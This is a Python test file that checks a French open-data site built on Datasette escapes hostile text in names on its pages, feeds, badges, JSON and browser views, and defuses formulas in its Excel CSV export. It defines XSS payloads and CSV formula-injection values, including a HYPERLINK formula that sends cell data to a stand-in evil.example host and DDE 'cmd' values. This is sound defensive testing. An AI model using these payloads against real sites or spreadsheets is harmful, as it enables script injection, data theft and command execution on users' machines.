"""Dangerous text stays inert: HTML and script in names are escaped on every page, in the JSON, in the browser
(search suggestions, map popups, territory page), and a cell that starts like a formula cannot run in the Excel CSV.

The site is served from a database built from a copy of the fixture package with hostile names.
"""
from __future__ import annotations

import csv
import io
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from build_cache import cached_build
from conftest import DATA, FIXTURE_PACKAGE, serving, set_cell
from markupsafe import escape

from tnl.site.http.serve import datasette_app

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
ATTRIBUTE = '"><svg onload=alert(3)>'
CLOSE_SCRIPT = "</script><script>alert(4)</script>"
BOLD = "<b onmouseover=alert(5)>mention</b>"
PAYLOADS = [SCRIPT, IMG, ATTRIBUTE, CLOSE_SCRIPT, BOLD]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]

HOSTILE_CELLS = [
    # (file, line, column, value)
    ("territories.csv", 10, "name", SCRIPT),  # Échirolles, 213801517: distinguished in 2023 and 2025
    ("territories.csv", 9, "name", ATTRIBUTE),  # Lettret, 210500740
    ("territories.csv", 9, "note", CLOSE_SCRIPT),
    ("results.csv", 4, "name_as_published", IMG),  # 2025, Échirolles
    ("results.csv", 4, "note", CLOSE_SCRIPT),
    ("results.csv", 2, "name_as_published", FORMULAS[0]),  # 2023, Lettret
    ("results.csv", 2, "match_note", FORMULAS[1]),
    ("results.csv", 2, "note", FORMULAS[3]),
    ("results.csv", 3, "note", FORMULAS[2]),
    ("mentions.csv", 2, "mention", BOLD),
]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(FIXTURE_PACKAGE, data)
    shutil.copy(DATA / "datapackage.yaml", data)
    for file, line, column, value in HOSTILE_CELLS:
        set_cell(data / file, line, column, value)
    database, problems = cached_build(data)  # one build for every worker (tests/build_cache.py); never written to
    assert problems == [], problems
    return database


@pytest.fixture(scope="module")
def hostile(hostile_db):
    """Datasette configured as `tnl serve` configures it, on the hostile database (in-process test client)."""
    return datasette_app(hostile_db)


@pytest.fixture(scope="module")
def hostile_server(hostile_db):
    """A real `tnl serve` of the hostile database on a free loopback port, for Chromium."""
    with serving(hostile_db) as url:
        yield url


def test_the_hostile_text_is_in_the_database(hostile_db):
    import sqlite3

    with sqlite3.connect(hostile_db) as conn:
        assert conn.execute("select name from territories where id = '213801517'").fetchone() == (SCRIPT,)
        assert conn.execute("select name_as_published from results where edition = 2025 and territory_id = '213801517'").fetchone() == (IMG,)


HTML_PAGES = [
    ("/", [SCRIPT]),
    ("/tnl/territories", [SCRIPT, ATTRIBUTE, CLOSE_SCRIPT]),
    ("/tnl/territories?_search=script", [SCRIPT]),
    ("/tnl/territories?_facet=name", [SCRIPT, ATTRIBUTE]),
    ("/tnl/territories/213801517", [SCRIPT]),
    ("/tnl/territories/210500740", [ATTRIBUTE, CLOSE_SCRIPT]),
    ("/tnl/results", [IMG, CLOSE_SCRIPT]),
    ("/tnl/results/2025,213801517", [IMG, CLOSE_SCRIPT]),
    ("/tnl/results_map", [SCRIPT, IMG]),
    ("/tnl/labelled_territories", [SCRIPT]),
    ("/tnl/territory_history", [SCRIPT]),
    ("/tnl/mentions", [BOLD]),
    ("/tnl/mentions?_facet=mention", [BOLD]),
    ("/tnl/palmares?edition=2025", [SCRIPT, IMG]),
    ("/tnl/palmares?edition=2023", [SCRIPT, ATTRIBUTE]),
    ("/tnl/nouveaux_laureats?edition=2023", [SCRIPT, ATTRIBUTE]),
    ("/tnl/derniere_distinction", [SCRIPT]),
    ("/tnl/derniers_resultats", [SCRIPT]),
    ("/tnl?sql=select+name,+note+from+territories", [SCRIPT, ATTRIBUTE, CLOSE_SCRIPT]),
    ("/territoire/213801517", [SCRIPT, IMG, BOLD]),
    ("/territoire/210500740", [ATTRIBUTE, CLOSE_SCRIPT]),
    ("/territoire/213801855", []),  # Grenoble: Échirolles among its peers (on the map, from the JSON)
    ("/embed/carte", [SCRIPT]),
    ("/embed/carte?edition=2023", [SCRIPT, ATTRIBUTE]),
    ("/embed/territoire/213801517", [SCRIPT]),
    ("/embed/territoire/210500740", [ATTRIBUTE]),
]


@pytest.mark.parametrize("path, shown", HTML_PAGES, ids=[p for p, _ in HTML_PAGES])
async def test_html_pages_escape_names(hostile, path, shown):
    response = await hostile.client.get(path)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/html")
    html = response.text
    for payload in PAYLOADS:
        assert payload not in html, f"{path}: raw {payload!r}"
    for payload in shown:
        assert str(escape(payload)) in html, f"{path}: {payload!r} should be shown, escaped"


async def test_the_atom_feed_escapes_names(hostile):
    response = await hostile.client.get("/tnl/derniers_resultats.atom")
    assert response.status_code == 200
    assert not any(payload in response.text for payload in PAYLOADS)
    entries = ET.fromstring(response.content).findall("{http://www.w3.org/2005/Atom}entry")
    text = " ".join(" ".join(entry.itertext()) for entry in entries)
    assert entries and SCRIPT in text and ATTRIBUTE in text and IMG in text  # in the feed, as text


@pytest.mark.parametrize("path", ["/territoire/213801517.atom", "/territoire/departement-38.atom"])
async def test_the_territory_feeds_escape_names(hostile, path):
    response = await hostile.client.get(path)
    assert response.status_code == 200
    assert not any(payload in response.text for payload in PAYLOADS)
    assert str(escape(SCRIPT)) in response.text


@pytest.mark.parametrize("path", ["/territoire/213801517/badge.svg", "/territoire/210500740/badge.svg"])
async def test_badges_escape_names(hostile, path):
    response = await hostile.client.get(path)
    assert not any(payload in response.text for payload in PAYLOADS)
    label = ET.fromstring(response.text).get("aria-label")  # well-formed, the name kept as text
    assert SCRIPT in label or ATTRIBUTE in label


@pytest.mark.parametrize("path, payload", [("/territoire/213801517", SCRIPT), ("/territoire/210500740", ATTRIBUTE)])
async def test_link_previews_escape_names(hostile, path, payload):
    html = (await hostile.client.get(path)).text
    head = html[:html.index("</head>")]
    assert f'<meta property="og:title" content="{escape(payload)} — Territoire Numérique Libre">' in head
    assert f'<meta name="twitter:image:alt" content="Territoire Numérique Libre : {escape(payload)},' in head
    textareas = html[html.index('id="partager"'):]
    assert str(escape(escape(payload))) in textareas  # the code to copy is text: its own escaping is shown, escaped


async def test_territory_json_carries_the_text_as_data(hostile):
    response = await hostile.client.get("/territoire/213801517.json")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"
    data = response.json()
    assert data["territory"]["name"] == SCRIPT
    assert IMG in [row["name_as_published"] for row in data["history"]]
    assert BOLD in [row["mention"] for row in data["mentions"]]


async def test_search_suggestions_json_carries_the_text_as_data(hostile):
    response = await hostile.client.get("/-/recherche.json", params={"q": "script"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    first = response.json()[0]
    assert (first["id"], first["nom"], first["label"]) == ("213801517", SCRIPT, f"{SCRIPT} (38)")


@pytest.mark.parametrize("path", ["/tnl/results.csvfr", "/tnl/palmares.csvfr?edition=2023", "/tnl/results_map.csvfr"])
async def test_excel_csv_defuses_formulas(hostile, path):
    response = await hostile.client.get(path)
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for c in row]
    assert cells
    for cell in cells:
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert re.fullmatch(r"-[0-9]+(,[0-9]+)?([eE][-+]?[0-9]+)?", cell), f"{path}: {cell!r} would run as a formula"
    defused = {cell for cell in cells if cell.startswith("'")}
    expected = {"'" + f for f in FORMULAS if f in _source_cells(path)}
    assert expected and expected <= defused


def _source_cells(path: str) -> set[str]:
    """Which formulas each export shows (palmares and results_map have no notes)."""
    if path.startswith("/tnl/results.csvfr"):
        return set(FORMULAS)
    return {FORMULAS[0]}


# --- in a real browser ----------------------------------------------------------------------------------------------

def watch(page) -> list:
    """Dialogs (alert) and page errors: any of them means a payload ran."""
    fired = []
    page.on("dialog", lambda dialog: (fired.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: fired.append(f"error: {error}"))
    return fired


def assert_nothing_ran(page, fired: list) -> None:
    """No payload ran. A probe image first fails to load, as `<img src=x onerror=…>` does, then raises an alert:
    by then an image payload would have fired, and the probe's alert proves that `watch` sees alerts."""
    page.evaluate("""() => new Promise((done) => {
        const probe = new Image();
        probe.onerror = () => { alert("sonde"); done(); };
        probe.src = "x?sonde=" + Date.now();
    })""")
    assert fired == ["sonde"]


def test_search_suggestions_render_names_as_text(hostile_server, page):
    fired = watch(page)
    page.goto(hostile_server + "/")
    page.fill("#recherche-territoire", "script")
    item = page.locator(".suggestions li a").first
    item.wait_for()
    assert SCRIPT in item.inner_text()
    assert page.locator(".suggestions script, .suggestions img, .suggestions svg, .suggestions b").count() == 0
    page.fill("#recherche-territoire", "svg onload")  # the attribute-breaking name
    page.wait_for_function("() => document.querySelector('.suggestions').innerText.includes('svg onload')")
    assert page.locator(".suggestions svg, .suggestions img").count() == 0
    assert_nothing_ran(page, fired)


def test_map_popup_renders_names_as_text(hostile_server, page):
    fired = watch(page)
    page.goto(hostile_server + "/tnl/labelled_territories?id=213801517")
    page.wait_for_selector(".leaflet-marker-pane .md-marker")
    page.click(".md-marker")
    popup = page.locator(".leaflet-popup-content")
    popup.wait_for()
    assert SCRIPT in popup.inner_text()
    assert popup.locator("script, img, svg").count() == 0
    page.goto(hostile_server + "/tnl/results_map?edition=2025&territory_id=213801517")
    page.wait_for_selector(".leaflet-marker-pane .md-marker")
    page.click(".md-marker")
    popup = page.locator(".leaflet-popup-content")
    popup.wait_for()
    assert SCRIPT in popup.inner_text()
    assert popup.locator("script, img, svg").count() == 0
    assert_nothing_ran(page, fired)


def test_territory_page_renders_names_as_text(hostile_server, page):
    fired = watch(page)
    page.goto(hostile_server + "/territoire/213801517")
    assert page.inner_text("h1") == SCRIPT
    assert page.title().startswith(SCRIPT)
    page.wait_for_selector("#carte-pairs[data-state=ready]", state="attached", timeout=15_000)
    assert page.locator("main img[src=x], .territoire img[src=x], .territoire svg[onload]").count() == 0
    assert_nothing_ran(page, fired)
